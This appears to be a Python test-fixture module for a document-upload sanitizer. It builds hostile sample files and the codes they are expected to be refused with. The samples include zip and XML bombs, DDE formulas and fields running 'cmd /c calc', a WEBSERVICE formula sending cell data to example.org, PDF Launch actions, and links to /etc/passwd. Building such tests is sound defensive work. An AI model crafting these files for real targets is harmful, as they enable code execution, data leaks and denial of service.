"""Hostile files by name: the name they are uploaded under, what makes them, the codes that do."""

import io
import struct
import zipfile
from collections.abc import Callable

from PIL import Image

from tests.factories import files as made

MEGABYTE = 1024 * 1024
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/"
Hostile = tuple[str, Callable[[], bytes], set[str]]


def linked(kind: str, target: str, *, external: bool = True, office: str = made.OFFICE) -> bytes:
    rels = made.links((office + kind, target, external))
    return made.openxml("docx", {"word/_rels/document.xml.rels": rels})


def acting(action: bytes) -> bytes:
    return made.raw_pdf(made.one_page(b"/OpenAction 4 0 R") | {4: action})


def flat(form: str, size: tuple[int, int], **options: object) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", size).save(target, form, **options)
    return target.getvalue()


def with_link() -> bytes:
    target = io.BytesIO(made.openxml("docx"))
    with zipfile.ZipFile(target, "a") as archive:
        entry = zipfile.ZipInfo("word/media/a.png")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return target.getvalue()


def laughing(root: str) -> str:
    entities = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(10)
    )
    return f"<!DOCTYPE {root} [{entities}]><{root}>&l9;</{root}>"


def elements(count: int) -> str:
    """XML that does not squeeze beyond the ratio that is allowed."""
    return "<document>" + "".join(f"<a{n * 7919:x}/>" for n in range(count)) + "</document>"


def of_countless_objects(count: int = 210_000) -> bytes:
    """A PDF of that many arrays, each an object of its own."""
    listed = b" ".join(b"%d 0 R" % number for number in range(5, count + 5))
    arrays = dict.fromkeys(range(5, count + 5), b"[]")
    return made.raw_pdf(made.one_page(b"/X [" + listed + b"]") | arrays)


def nested_workbook(inner: bytes) -> bytes:
    return made.openxml("docx", {"word/embeddings/Sheet1.xlsx": inner})


def refused(name: str, make: Callable[[], bytes], *codes: str) -> Hostile:
    return name, make, set(codes)


HEAVY = ("too-heavy", "too-complex", "unpacks-too-large", "damaged")
BOMBS: dict[str, Hostile] = {
    "WebP of 39 megapixels in 1.5 kB": refused("a.webp", made.webp_bomb, "too-many-pixels"),
    "WebP at the limit": ("a.webp", lambda: flat("WEBP", (2000, 2000), lossless=True), {"kept"}),
    "PNG that claims 4 gigapixels": refused(
        "a.png", lambda: made.png_header(65_000, 65_000), "too-many-pixels"
    ),
    "JPEG of 40 megapixels": ("a.jpg", lambda: flat("JPEG", (7300, 5475)), {"kept"}),
    "PDF of 210,000 arrays": refused("a.pdf", of_countless_objects, *HEAVY),
    "PDF of two million arrays in 420 objects": refused("a.pdf", made.pdf_of_arrays, *HEAVY),
    "PDF nested 50,000 deep": refused(
        "a.pdf", lambda: made.raw_pdf(made.one_page(b"/Deep " + b"[" * 50_000)), *HEAVY
    ),
    "PDF that unpacks to 40 MB": refused(
        "a.pdf",
        lambda: made.raw_pdf(
            made.one_page(b"/W 4 0 R"), in_stream={4: b"<<>>" + b" " * (40 * MEGABYTE)}
        ),
        *HEAVY,
    ),
    "ZIP of ratio 1,000": refused(
        "a.docx",
        lambda: made.openxml("docx", {"word/media/x.xml": bytes(30 * MEGABYTE)}),
        "unpacks-too-large",
    ),
    "ZIP that says less than it holds": refused(
        "a.docx",
        lambda: made.openxml("docx", {"word/media/x.xml": bytes(30 * MEGABYTE)}).replace(
            struct.pack("<L", 30 * MEGABYTE), struct.pack("<L", 10)
        ),
        "unpacks-too-large",
    ),
    "ZIP of 6,000 entries": refused(
        "a.docx",
        lambda: made.openxml("docx", {f"word/{number}": b"" for number in range(6000)}),
        "unpacks-too-large",
    ),
    "XML of ten billion laughs": refused(
        "a.docx",
        lambda: made.openxml("docx", {"word/document.xml": laughing("document")}),
        "damaged",
    ),
    "XML bomb in a sheet": refused(
        "a.xlsx",
        lambda: made.openxml("xlsx", {"xl/worksheets/sheet1.xml": laughing("worksheet")}),
        "damaged",
    ),
    "XML bomb in a relationship": refused(
        "a.pptx",
        lambda: made.openxml("pptx", {"ppt/_rels/x.xml.rels": laughing("Relationships")}),
        "damaged",
    ),
    "XML bomb in OpenDocument styles": refused(
        "a.odt", lambda: made.opendocument("odt", {"styles.xml": laughing("styles")}), "damaged"
    ),
    "XML of four million elements": refused(
        "a.docx", lambda: made.openxml("docx", {"word/document.xml": elements(4_000_000)}), *HEAVY
    ),
    "sheet of 300,000 formulas": (
        "a.xlsx",
        lambda: made.sheet(*(f"A{n}+{n * 7919}" for n in range(300_000))),
        {"kept"},
    ),
    "compound file that loops": refused("a.doc", lambda: looped(), "damaged"),
}


def looped() -> bytes:
    content = bytearray(made.valid_files()["doc"])
    (directory,) = struct.unpack_from("<L", content, 48)
    struct.pack_into("<L", content, 512 + 4 * directory, directory)
    return bytes(content)


REACHING: dict[str, Hostile] = {
    "picture from elsewhere (TargetMode)": refused(
        "a.docx", lambda: linked("image", "http://example.org/a.png"), "linked-content"
    ),
    "picture over a share, not said to be outside": refused(
        "a.docx",
        lambda: linked("image", "file://server/share/a.png", external=False),
        "linked-content",
    ),
    "template from elsewhere": refused(
        "a.docx", lambda: made.with_template("https://example.org/a.dotm"), "linked-content"
    ),
    "template on a share": refused(
        "a.docx", lambda: made.with_template("\\\\server\\share\\a.dotm"), "linked-content"
    ),
    "template on one's own disk (left out)": (
        "a.docx",
        lambda: made.with_template("file:///C:\\Templates\\Letter.dotx"),
        {"kept"},
    ),
    "oleObject embedded": refused(
        "a.docx",
        lambda: linked("oleObject", "embeddings/oleObject1.bin", external=False),
        "embedded-objects",
    ),
    "program among the embedded parts": refused(
        "a.docx", lambda: made.openxml("docx", {"word/embeddings/a.exe": b"MZ"}), "embedded-objects"
    ),
    "RTF as a chunk of the document": refused(
        "a.docx", lambda: linked("aFChunk", "afchunk.rtf", external=False), "embedded-objects"
    ),
    "workbook with links, inside a document": refused(
        "a.docx",
        lambda: nested_workbook(made.openxml("xlsx", {"xl/connections.xml": "<x/>"})),
        "linked-content",
    ),
    "document in a document in a document": refused(
        "a.docx",
        lambda: nested_workbook(made.openxml("xlsx", {"xl/embeddings/a.docx": b"PK"})),
        "embedded-objects",
    ),
    "externalLinks": refused(
        "a.xlsx",
        lambda: made.openxml("xlsx", {"xl/externalLinks/externalLink1.xml": "<x/>"}),
        "linked-content",
    ),
    "connections": refused(
        "a.xlsx", lambda: made.openxml("xlsx", {"xl/connections.xml": "<x/>"}), "linked-content"
    ),
    "mail merge": refused(
        "a.docx",
        lambda: made.openxml(
            "docx",
            {"word/settings.xml": '<w:settings xmlns:w="urn:w"><w:connectString/></w:settings>'},
        ),
        "linked-content",
    ),
    "DDE formula": refused("a.xlsx", lambda: made.sheet("cmd|'/c calc'!A1"), "commands"),
    "DDE formula behind entities": refused(
        "a.xlsx", lambda: made.sheet("cmd&#124;'/c calc'!A1"), "commands"
    ),
    "WEBSERVICE formula": refused(
        "a.xlsx",
        lambda: made.sheet('_xlfn.WEBSERVICE("http://example.org/"&amp;A1)'),
        "linked-content",
    ),
    "DDE formula in CDATA": refused(
        "a.xlsx", lambda: made.sheet("<![CDATA[cmd|'/c calc'!A1]]>"), "damaged"
    ),
    "DDE formula across chunks": refused(
        "a.xlsx", lambda: made.sheet("A1+" * 40_000 + "cmd|'/c calc'!A1"), "commands"
    ),
    "DDE formula behind an attribute": refused(
        "a.xlsx",
        lambda: made.openxml(
            "xlsx",
            {"xl/worksheets/sheet1.xml": "<w><f a='>\"'>cmd|'/c'!A1&amp;\"\"</f></w>"},
        ),
        "commands",
    ),
    "sheet in UTF-16": refused(
        "a.xlsx",
        lambda: made.openxml(
            "xlsx", {"xl/worksheets/sheet1.xml": "<w><f>cmd|'x'!A1</f></w>".encode("utf-16")}
        ),
        "damaged",
    ),
    "DDE in a CSV": refused("a.csv", lambda: b"name,n\r\nAnn,=cmd|'/c calc'!A1\r\n", "commands"),
    "VBA by relationship": refused(
        "a.docx",
        lambda: linked("vbaProject", "x.bin", external=False, office=MICROSOFT),
        "macros",
    ),
    "symbolic link in a ZIP": refused("a.docx", with_link, "damaged"),
}
FIELDS: dict[str, Hostile] = {
    "DDE field": refused(
        "a.docx", lambda: made.word_field("{", ' DDEAUTO c:\\x "/k calc" ', "}"), "commands"
    ),
    "DDE field in pieces": refused(
        "a.docx", lambda: made.word_field("{", " DD", "EAUTO x ", "}"), "commands"
    ),
    "DDE field whose name is QUOTEd": refused(
        "a.docx",
        lambda: made.word_field("{", " ", "{", " QUOTE 68 68 69 ", "}", " x y ", "}"),
        "commands",
    ),
    "DDE field whose name is QUOTEd in part": refused(
        "a.docx",
        lambda: made.word_field("{", " DD", "{", " QUOTE 69 ", "|", "}", " x y ", "}"),
        "commands",
    ),
    "DDE field in a field": refused(
        "a.docx",
        lambda: made.word_field("{", " IF 1 = 1 ", "{", " DDE x y ", "}", " ", "}"),
        "commands",
    ),
    "INCLUDEPICTURE": refused(
        "a.docx",
        lambda: made.word_field("{", ' INCLUDEPICTURE "http://example.org/a.png" \\d ', "}"),
        "linked-content",
    ),
    "INCLUDETEXT": refused(
        "a.docx",
        lambda: made.word_field("{", ' INCLUDETEXT "\\\\server\\a.docx" ', "}"),
        "linked-content",
    ),
    "LINK": refused(
        "a.docx", lambda: made.word_field("{", " LINK Excel.Sheet.8 a.xls ", "}"), "linked-content"
    ),
    "DDE field in a .doc": refused(
        "a.doc", lambda: made.word_with("Words \x13 DDEAUTO c:\\x y \x15"), "commands"
    ),
    "DDE field in pieces of a .doc": refused(
        "a.doc", lambda: made.word_with("Words \x13 DD", "EAUTO x y \x15"), "commands"
    ),
    "QUOTEd DDE field in a .doc": refused(
        "a.doc", lambda: made.word_with("\x13 \x13 QUOTE 68 68 69 \x15 x y \x15"), "commands"
    ),
    "INCLUDEPICTURE in a .doc": refused(
        "a.doc",
        lambda: made.word_with("\x13INCLUDEPICTURE http://example.org/a.png\x14\x15"),
        "linked-content",
    ),
    "embedded object in a .doc": refused(
        "a.doc",
        lambda: made.compound(
            {"WordDocument": made.word_stream(), "ObjectPool": {"_1234567890": {"\x01Ole": b"x"}}}
        ),
        "embedded-objects",
    ),
    "packaged file in an .xls": refused(
        "a.xls",
        lambda: made.compound(
            {"Workbook": made.excel_stream(), "MBD0018D4CE": {"\x01Ole10Native": b"x"}}
        ),
        "embedded-objects",
    ),
    "DDE in an .xls": refused("a.xls", lambda: made.excel_with_book("cmd\x03/c calc"), "commands"),
    "another workbook in an .xls": refused(
        "a.xls", lambda: made.excel_with_book("\x01\x01Cother.xls"), "linked-content"
    ),
    "embedded object in a .ppt": refused("a.ppt", made.powerpoint_with_object, "embedded-objects"),
    "linked object in a .ppt": refused(
        "a.ppt",
        lambda: made.powerpoint_with_object(0x0FCE, 0x0FD1, 12),
        "embedded-objects",
    ),
}
OPEN: dict[str, Hostile] = {
    "OpenDocument picture from elsewhere": refused(
        "a.odt",
        lambda: made.open_with('<d:image xlink:href="http://example.org/a.png"/>'),
        "linked-content",
    ),
    "OpenDocument picture on a share": refused(
        "a.odt",
        lambda: made.open_with('<d:image xlink:href="\\\\server\\a.png"/>'),
        "linked-content",
    ),
    "OpenDocument picture beside the file": refused(
        "a.odt", lambda: made.open_with('<d:image xlink:href="../a.png"/>'), "linked-content"
    ),
    "OpenDocument section from a file": refused(
        "a.odt",
        lambda: made.open_with('<t:section-source xlink:href="file:///etc/passwd"/>'),
        "linked-content",
    ),
    "OpenDocument sheet from another": refused(
        "a.ods",
        lambda: made.open_with("<t:table-cell t:formula=\"of:='file:///C:/a.ods'#$A.B1\"/>", "ods"),
        "linked-content",
    ),
    "OpenDocument DDE": refused(
        "a.ods",
        lambda: made.open_with('<t:table-cell t:formula=\'of:=DDE("soffice";"a";"b")\'/>', "ods"),
        "commands",
    ),
    "OpenDocument DDE link": refused(
        "a.odt", lambda: made.open_with("<t:dde-connection-decl/>"), "commands"
    ),
    "OpenDocument script on an event": refused(
        "a.odt",
        lambda: made.open_with('<s:event-listener s:language="ooo:script"/>', part="styles.xml"),
        "macros",
    ),
    "OpenDocument program on a click": refused(
        "a.odp",
        lambda: made.open_with('<s:event-listener s:action="execute"/>', "odp"),
        "macros",
    ),
    "OpenDocument OLE object": refused(
        "a.odt",
        lambda: made.open_with('<d:object-ole xlink:href="./Object 1"/>'),
        "embedded-objects",
    ),
    "OpenDocument template from elsewhere": refused(
        "a.odt",
        lambda: made.open_with(
            '<t:template xlink:href="https://example.org/a.ott"/>', part="meta.xml"
        ),
        "linked-content",
    ),
}
PDFS: dict[str, Hostile] = {
    f"PDF {title}": refused("a.pdf", lambda action=action: acting(action), code)
    for title, action, code in (
        ("SubmitForm", b"<</S/SubmitForm/F(https://example.org/)>>", "reaching-pdf"),
        ("GoToR", b"<</S/GoToR/F(other.pdf)/D[0/Fit]>>", "reaching-pdf"),
        ("Launch", b"<</S/Launch/F(cmd.exe)>>", "active-content"),
        ("JavaScript", b"<</S/JavaScript/JS(x)>>", "active-content"),
        ("address on a share", b"<</S/URI/URI(\\\\\\\\server\\\\a)>>", "reaching-pdf"),
        ("address in bytes that are no text", b"<</S/URI/URI<5c5c739f>>>", "reaching-pdf"),
        ("file by address", b"<</Type/Filespec/FS/URL/F(http://example.org/)>>", "reaching-pdf"),
        ("picture of another PDF", b"<</Ref<</F(other.pdf)/Page 0>>>>", "reaching-pdf"),
    )
}
VALID = made.valid_files()
POLYGLOTS: dict[str, Hostile] = {
    "PDF that is a ZIP": refused("a.pdf", lambda: VALID["pdf"] + VALID["docx"], "two-kinds"),
    "PDF with a page of scripts after it": refused(
        "a.pdf", lambda: VALID["pdf"] + b"<script>" * 500, "two-kinds"
    ),
    "ZIP with a PDF in front": refused(
        "a.docx",
        lambda: made.zipped({"n": VALID["pdf"]} | made.openxml_parts("docx"), stored=("n",)),
        "two-kinds",
    ),
    "two packages in one": refused(
        "a.docx", lambda: VALID["docx"] + VALID["odt"], "two-kinds", "damaged"
    ),
    "compound file with a package after it": refused(
        "a.doc", lambda: VALID["doc"] + VALID["docx"], "two-kinds"
    ),
    "picture that is a ZIP (written afresh)": (
        "a.png",
        lambda: VALID["png"] + VALID["docx"],
        {"kept", "two-kinds", "damaged"},
    ),
    "web page named .txt": refused("a.txt", lambda: b"<!doctype html><script>", "web-page"),
    "program named .pdf": refused("a.pdf", lambda: b"MZ" + bytes(500), "wrong-content"),
}
FILES: dict[str, Hostile] = BOMBS | REACHING | FIELDS | OPEN | PDFS | POLYGLOTS
